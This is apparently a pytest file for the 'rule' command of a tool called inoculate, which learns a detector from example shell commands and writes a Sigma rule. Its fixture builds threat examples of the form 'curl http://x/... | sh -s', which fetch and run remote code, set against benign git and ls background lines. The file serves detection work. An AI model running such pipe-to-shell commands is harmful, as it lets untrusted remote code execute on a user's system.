"""The command: the rule on standard output, the report on the other, exit codes."""

import json

import pytest
from typer.testing import CliRunner

from inoculate.cli.main import app
from inoculate.errors import InputError
from inoculate.workflows.adapt import AdaptRequest, adapt


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("rule")
    benign = [f"git commit -m change{i}" for i in range(60)] + ["ls -l"] * 60
    (folder / "few.txt").write_text("".join(f"curl http://x/{i} | sh -s\n" for i in "abc"))
    (folder / "week.txt").write_text("".join(f"{line}\n" for line in benign))
    adapt(
        AdaptRequest(
            examples=(str(folder / "few.txt"),), background=(str(folder / "week.txt"),),
            out=folder / "pipe.detector", threats=("pipe",), learner="k_nearest",
            format="commands",
        )
    )  # fmt: skip
    return folder


def run(folder, *more):
    words = ["rule", str(folder / "pipe.detector"), "--format", "sigma"]
    words += ["--input-format", "commands", *map(str, more)]
    return CliRunner().invoke(app, words, standalone_mode=False)


def given(folder):
    return ("-e", folder / "few.txt", "-b", folder / "week.txt")


def test_the_rule_goes_to_stdout_and_the_report_to_stderr(folder):
    done = run(folder, *given(folder))
    assert done.return_value == 0 and done.stdout.startswith("title: Learned from examples")
    assert "examples: 3 of 3 match" in done.stderr and "0 of 120 match" in done.stderr
    assert "replayed with pySigma" in done.stderr


def test_quiet_is_quiet_and_a_file_takes_the_rule(folder):
    done = run(folder, *given(folder), "-o", folder / "made.yml", "--quiet")
    assert (done.stdout, done.stderr) == ("", "")
    assert (folder / "made.yml").read_text().startswith("title:")


def test_no_rule_is_an_error_and_no_file(folder):
    (folder / "same.txt").write_text((folder / "few.txt").read_text())
    done = run(folder, "-e", folder / "few.txt", "-b", folder / "same.txt", "-o", folder / "no.yml")
    assert isinstance(done.exception, InputError) and "no rule" in str(done.exception)
    assert "\n" not in str(done.exception) and not (folder / "no.yml").exists()


def test_without_sources_the_rule_is_made_of_what_the_detector_kept(folder):
    done = run(folder)
    assert done.return_value == 0 and "examples: 3 of 3 match" in done.stderr
    assert "kept with the detector" in done.stdout


def test_a_detector_without_records_says_what_the_rule_needs(folder):
    words = ["adapt", "-e", folder / "few.txt", "-b", folder / "week.txt", "--threat", "pipe"]
    words += ["--input-format", "commands", "--learner", "k_nearest", "--no-records", "--quiet"]
    bare = folder / "bare.detector"
    done = CliRunner().invoke(app, [*map(str, words), "-o", str(bare)], standalone_mode=False)
    assert done.exception is None and not (bare / "records.jsonl").exists()
    words = ["rule", str(bare), "--format", "sigma"]
    done = CliRunner().invoke(app, words, standalone_mode=False)
    assert "--examples or --pairs and --background" in str(done.exception)
    shown = CliRunner().invoke(app, ["show", str(bare)], standalone_mode=False).stdout
    assert "keeps" not in shown
    words = ["show", str(folder / "pipe.detector")]
    shown = CliRunner().invoke(app, words, standalone_mode=False).stdout
    assert "keeps           3 examples, 120 background records (" in shown


def test_what_is_written_is_as_long_as_a_reader_can_take(folder):
    text = run(folder, *given(folder)).stdout
    assert len(text.splitlines()) < 40 and json.dumps(text)
